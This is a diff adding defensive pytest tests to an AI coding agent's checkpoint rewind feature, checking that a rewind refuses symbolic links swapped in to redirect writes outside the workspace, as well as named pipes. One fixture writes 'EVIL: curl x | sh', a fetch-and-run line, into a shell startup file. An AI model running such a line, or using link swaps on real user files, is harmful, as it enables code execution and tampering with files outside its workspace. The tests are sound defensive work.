@@ -179,3 +179,146 @@ def test_a_turn_undone_is_no_longer_offered_but_its_files_still_rewind(
     session.checkpoints.restore(plan, overwrite_changed=False)
     assert (work / "config.txt").read_bytes() == CONFIG, "the undone turn's write is put back"
     assert not (work / "app.py").exists()
+
+
+# ---- a link swapped in after the agent's edit (attack A3-16): the rewind never follows it ----
+
+
+def edits_then(home: Path, llm: FakeLLM, path: str, first: str, second: str | None):
+    """Turn 1 writes `path` with `first`; turn 2 (when `second`) writes it again."""
+    runtime = open_runtime(home, llm.openai_url)
+    session = runtime.open_session()
+    llm.script(Reply(tool_calls=[("write_file", {"path": path, "content": first})]))
+    llm.script(Reply(text="one"))
+    session.submit("one")
+    if second is not None:
+        llm.script(Reply(tool_calls=[("write_file", {"path": path, "content": second})]))
+        llm.script(Reply(text="two"))
+        session.submit("two")
+    return session
+
+
+@pytest.fixture
+def outside(tmp_path: Path) -> Path:
+    """A folder outside the workspace standing for the user's home, with a startup file."""
+    folder = tmp_path / "home-of-user"
+    folder.mkdir()
+    (folder / ".profile").write_text("ORIGINAL\n")
+    return folder
+
+
+def test_a_folder_swapped_for_a_link_home_is_refused_and_the_home_file_keeps_its_text(
+    home: Path, work: Path, llm: FakeLLM, outside: Path
+) -> None:
+    session = edits_then(home, llm, "sub/.profile", "EVIL: curl x | sh\n", "ORIGINAL\n")
+    # A command (sandboxed: it may touch the workspace only) swaps the folder for a link.
+    (work / "sub").rename(work / "sub.bak")
+    (work / "sub").symlink_to(outside)
+    plan = session.checkpoints.plan(2)
+    assert not plan.conflicts, "nothing to ask about: the file is refused, not offered"
+    [refused] = plan.refused
+    assert refused.path == str(work / "sub" / ".profile")
+    assert f"{work / 'sub'} is now a symbolic link to {outside}" in refused.refused
+    assert "stays as it is" in refused.diff()
+    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
+    assert (outside / ".profile").read_text() == "ORIGINAL\n"
+    assert (work / "sub.bak" / ".profile").read_text() == "ORIGINAL\n"
+
+
+def test_a_rewind_never_deletes_a_home_file_through_a_swapped_folder(
+    home: Path, work: Path, llm: FakeLLM, outside: Path
+) -> None:
+    session = edits_then(home, llm, "sub/.profile", "ORIGINAL\n", None)
+    (work / "sub").rename(work / "sub.bak")
+    (work / "sub").symlink_to(outside)
+    plan = session.checkpoints.plan(1)
+    assert [f.path for f in plan.refused] == [str(work / "sub" / ".profile")]
+    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
+    assert (outside / ".profile").read_text() == "ORIGINAL\n", "still there"
+
+
+def test_the_file_itself_swapped_for_a_link_is_refused(
+    home: Path, work: Path, llm: FakeLLM, outside: Path
+) -> None:
+    session = edits_then(home, llm, "sub/.profile", "EVIL\n", "ORIGINAL\n")
+    (work / "sub" / ".profile").unlink()
+    (work / "sub" / ".profile").symlink_to(outside / ".profile")
+    plan = session.checkpoints.plan(2)
+    [refused] = plan.refused
+    assert "is now a symbolic link" in refused.refused
+    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
+    assert (outside / ".profile").read_text() == "ORIGINAL\n"
+    assert (work / "sub" / ".profile").is_symlink(), "the link is left as the command made it"
+
+
+def test_a_folder_two_levels_up_swapped_for_a_link_is_refused(
+    home: Path, work: Path, llm: FakeLLM, outside: Path
+) -> None:
+    session = edits_then(home, llm, "a/b/.profile", "EVIL\n", None)
+    (outside / "b").mkdir()
+    (outside / "b" / ".profile").write_text("ORIGINAL\n")
+    (work / "a").rename(work / "a.bak")
+    (work / "a").symlink_to(outside)
+    plan = session.checkpoints.plan(1)
+    assert [f.refused for f in plan.refused] == [
+        f"{work / 'a' / 'b' / '.profile'}: not restored: {work / 'a'} is now a symbolic link "
+        f"to {outside}, which is not followed"
+    ]
+    assert session.checkpoints.restore(plan, overwrite_changed=True) == []
+    assert (outside / "b" / ".profile").read_text() == "ORIGINAL\n"
+
+
+def test_a_swap_after_the_plan_stops_the_rewind_and_writes_nothing_outside(
+    home: Path, work: Path, llm: FakeLLM, outside: Path
+) -> None:
+    from hermes_tui.core.checkpoints import CheckpointError
+
+    session = edits_then(home, llm, "sub/.profile", "EVIL\n", "ORIGINAL\n")
+    plan = session.checkpoints.plan(2)  # chosen while the folder was still a folder
+    assert not plan.refused
+    (work / "sub").rename(work / "sub.bak")
+    (work / "sub").symlink_to(outside)
+    with pytest.raises(CheckpointError, match="is now a symbolic link"):
+        session.checkpoints.restore(plan, overwrite_changed=True)
+    assert (outside / ".profile").read_text() == "ORIGINAL\n"
+
+
+def test_the_no_follow_writer_refuses_a_link_swapped_in_between_check_and_write(
+    tmp_path: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The write opens each folder itself without following links: a swap made after every
+    check (here, right before the folder is opened) still cannot redirect it."""
+    from hermes_tui.core import nofollow
+
+    work = tmp_path / "w"
+    (work / "sub").mkdir(parents=True)
+    real_open = nofollow.os.open
+
+    def swapping_open(name, flags, *args, **kwargs):
+        if name == "sub" and (work / "sub").is_dir() and not (work / "sub").is_symlink():
+            (work / "sub").rename(work / "sub.bak")
+            (work / "sub").symlink_to(outside)
+        return real_open(name, flags, *args, **kwargs)
+
+    monkeypatch.setattr(nofollow.os, "open", swapping_open)
+    with pytest.raises(nofollow.UnsafePath, match="symbolic link"):
+        nofollow.write_bytes(work / "sub" / ".profile", b"EVIL\n")
+    with pytest.raises(nofollow.UnsafePath, match="symbolic link"):
+        nofollow.unlink(work / "sub" / ".profile")
+    monkeypatch.undo()
+    assert (outside / ".profile").read_text() == "ORIGINAL\n"
+    assert sorted(p.name for p in outside.iterdir()) == [".profile"], "no temp file left there"
+
+
+def test_a_named_pipe_in_place_of_the_file_is_refused_without_blocking(
+    home: Path, work: Path, llm: FakeLLM
+) -> None:
+    import os
+
+    session = edits_then(home, llm, "notes.txt", "one\n", "two\n")
+    (work / "notes.txt").unlink()
+    os.mkfifo(work / "notes.txt")
+    plan = session.checkpoints.plan(2)
+    assert [f.refused for f in plan.refused] == [
+        f"{work / 'notes.txt'}: not restored: not a regular file"
+    ]
